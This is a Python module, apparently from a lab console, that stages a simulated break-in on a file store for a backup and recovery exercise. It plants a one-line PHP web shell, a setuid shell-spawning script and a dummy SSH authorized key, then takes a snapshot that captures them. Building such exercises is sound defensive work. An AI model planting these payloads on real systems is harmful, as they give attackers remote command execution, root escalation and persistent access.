"""Somebody inside a file store: a program that runs as its owner, a web shell, a key; a snapshot holds them by now."""

from __future__ import annotations

import os
from pathlib import Path

from cleo_console.lab.fault_log import utc_now
from cleo_console.lab.files.place import Place
from cleo_console.lab.service import Done
from journal.errors import CleoError

SHELL, PROGRAM, KEYS = "uploads/thumb.php", "models/.helper", ".ssh/authorized_keys"


def intrude(place: Place) -> Done:
    """Put a web shell, a setuid program and a key into the store, take a snapshot, and put one upload more."""
    if not place.directory.is_dir():
        raise CleoError(f"{place.directory} is not there.", "Restore the store first.")
    at = utc_now()
    _put(place, SHELL, "<?php system($_GET['c']); ?>\n")
    _put(place, PROGRAM, "#!/bin/sh\nexec sh\n").chmod(0o4755)
    _put(place, KEYS, "ssh-ed25519 AAAA-not-a-key eve\n")
    place.take_snapshot()
    label, noticed = str(place.snapshots()[-1]["short_id"]), utc_now()
    _put(place, "uploads/notice.txt", "you have been warned\n")
    what = f"Put {SHELL}, a setuid {PROGRAM} and {KEYS} into the store; snapshot {label} holds them"
    return what, {"at": at, "backup": label, "noticed": noticed}


def _put(place: Place, path: str, text: str) -> Path:
    found = place.directory / path
    found.parent.mkdir(exist_ok=True)
    found.write_text(text)
    os.chown(found, place.owner.uid, place.owner.gid)
    return found
